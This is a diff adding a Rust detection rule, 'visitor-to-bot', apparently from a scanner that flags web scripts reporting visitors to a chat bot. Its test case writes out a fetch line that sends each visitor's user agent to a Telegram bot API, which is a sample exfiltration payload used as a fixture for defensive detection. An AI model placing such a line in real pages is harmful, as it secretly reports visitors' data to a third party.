@@ -1,0 +1,22 @@
+//! `visitor-to-bot`.
+
+use crate::facts::Atom;
+use crate::signals::{Signal, one};
+use crate::{ClassSet, Severity};
+
+pub(super) const SIGNAL: Signal = Signal {
+    id: "visitor-to-bot",
+    description: "The script reports each visitor to a chat bot.",
+    severity: Severity::Medium,
+    classes: ClassSet::MALWARE,
+    needs: &[one(&[Atom::VisitorToBot])],
+    within: 0,
+    only_if: None,
+    #[cfg(test)]
+    cases: crate::signals::Cases {
+        with: &[
+            "fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text='+encodeURIComponent(navigator.userAgent))",
+        ],
+        without: &["fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=1&text=started')"],
+    },
+};
